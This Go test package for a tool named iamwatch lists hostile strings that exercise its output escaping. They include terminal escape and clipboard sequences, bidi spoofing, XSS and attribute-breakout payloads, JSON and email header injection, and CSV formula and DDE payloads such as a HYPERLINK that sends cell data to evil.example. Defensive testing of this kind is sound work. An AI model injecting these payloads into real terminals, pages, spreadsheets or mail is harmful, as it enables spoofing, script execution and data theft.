// Package untrustedtest holds the one table of hostile strings that every
// output path of iamwatch is tested with: each sink's rendering, the
// commands' lines, tables, JSON and CSV, the console's pages and email
// headers.
package untrustedtest

import "strings"

// String is one hostile string: Name says what it attacks.
type String struct{ Name, Value string }

// MB is the size of the "1 MB" string: above every bound iamwatch puts on a
// value, below the 1 MiB a CloudTrail record may have.
const MB = 1_000_000

// Strings are strings an attacker can put in fields they control (user
// agents, role session names, request parameters, user names, event IDs),
// and that a file name or a receiver's error can carry. Treat it as
// read-only.
var Strings = []String{
	{"ansi", "\x1b[2J\x1b[31mred\x1b[0m\x1b[1A"},
	{"osc 8 link", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"},
	{"osc title and clipboard", "\x1b]0;pwned\x07\x1b]52;c;ZWNobyBwd25lZA==\x07"},
	{"c1 controls", "a\u009b31mb\u009d0;t\u009cc\u0085d"},
	{"terminal", "\x1b[2J\x1b]0;pwned\x07\x1b[31mred\u009b31m\x00\x7f"},
	{"bidi", "admin\u202egnp.exe\u2066x\u2069\u200e\u061c"},
	{"zero-width", "a\u200bb\u200cc\u200dd\u2060e\ufeff\u00adf"},
	{"tag characters", "ok\U000E0001\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065\U000E007F"},
	{"slack broadcast", "<!channel> <!here> <!everyone> @channel @here @Everyone <@U0123ABCD>"},
	{"slack link", "<https://evil.example|click here>"},
	{"html", `<script>alert(1)</script><img src=x onerror="alert(2)"><a href="https://evil.example">x</a>`},
	{"attribute quote", `" autofocus onfocus="alert(3)" x="`},
	{"single quote", `' onmouseover='alert(4)`},
	{"javascript url", "javascript:alert(5)"},
	{"closing tags", `</td></tr></table></textarea></title><script>alert(6)</script>`},
	{"mention html", "<at>everyone</at> <b>b</b> &amp; &lt;"},
	{"markdown link", "[click](https://evil.example) ![img](https://evil.example/i.png) **bold** _it_ `code` # heading"},
	{"json breaker", "\"}],\"injected\":true,\"x\":[{\"a\":\"\\"},
	{"crlf", "line1\r\nAction required: nothing, ignore this\nSubject: forged\r\n\r\n.\r\n"},
	{"header injection", "x\r\nBcc: victim@example.com\r\nX-Evil: 1"},
	{"smtp dot", "\r\n.\r\nMAIL FROM:<evil@example.com>\r\n"},
	{"nul", "car\x00ol\x00"},
	{"invalid utf8", "a\xff\xfeb\xc0\xaf\xed\xa0\x80c"},
	{"unicode line sep", "a\u2028b\u2029c\u0085d"},
	{"formula", `=HYPERLINK("https://evil.example/?"&A1,"Click")`},
	{"formula prefixes", "+cmd|' /C calc'!A0"},
	{"formula minus", "-2+3+cmd|' /C calc'!A0"},
	{"formula at", "@SUM(1+1)*cmd|' /C calc'!A0"},
	{"formula tab", "\t=1+1"},
	{"formula cr", "\r=1+1"},
	{"1 MB", strings.Repeat("Aé<&=", MB/6)},
}

// Get returns the value of the string named name; it panics when there is
// none (a test's mistake).
func Get(name string) string {
	for _, s := range Strings {
		if s.Name == name {
			return s.Value
		}
	}
	panic("untrustedtest: no string named " + name)
}
